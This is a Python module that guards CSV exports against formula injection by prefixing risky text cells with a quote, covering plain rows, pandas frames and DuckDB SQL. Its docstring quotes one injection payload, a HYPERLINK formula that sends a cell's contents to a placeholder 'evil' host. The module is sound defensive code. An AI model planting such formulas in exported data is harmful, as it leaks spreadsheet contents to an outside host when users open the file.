"""CSV cells that a spreadsheet will not run as formulas.

A title or file name like ``=HYPERLINK("http://evil/?"&A1,"click")`` exported to CSV and
opened in Excel or LibreOffice becomes a live formula (CSV injection). Every text cell that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``, the
usual neutraliser (OWASP), in every CSV we write: `stemwatch export --format csv`,
`stemwatch sql --format csv` and the SQL console's download. Numbers are not text and keep
their sign.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def safe_rows(rows: Iterable[Iterable[Any]]) -> list[list[Any]]:
    return [[safe_cell(v) for v in row] for row in rows]


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell neutralised (column names too)."""
    out = frame.copy()
    for col in out.columns:
        if out[col].dtype == object or str(out[col].dtype) in ("string", "str"):
            out[col] = out[col].map(safe_cell)
    out.columns = [safe_cell(str(c)) for c in out.columns]
    return out


def safe_sql_expr(column: str) -> str:
    """A DuckDB expression for a VARCHAR column (already quoted) with the same neutraliser."""
    starts = ", ".join(f"chr({ord(c)})" for c in FORMULA_START)
    return f"CASE WHEN left({column}, 1) IN ({starts}) THEN '''' || {column} ELSE {column} END"
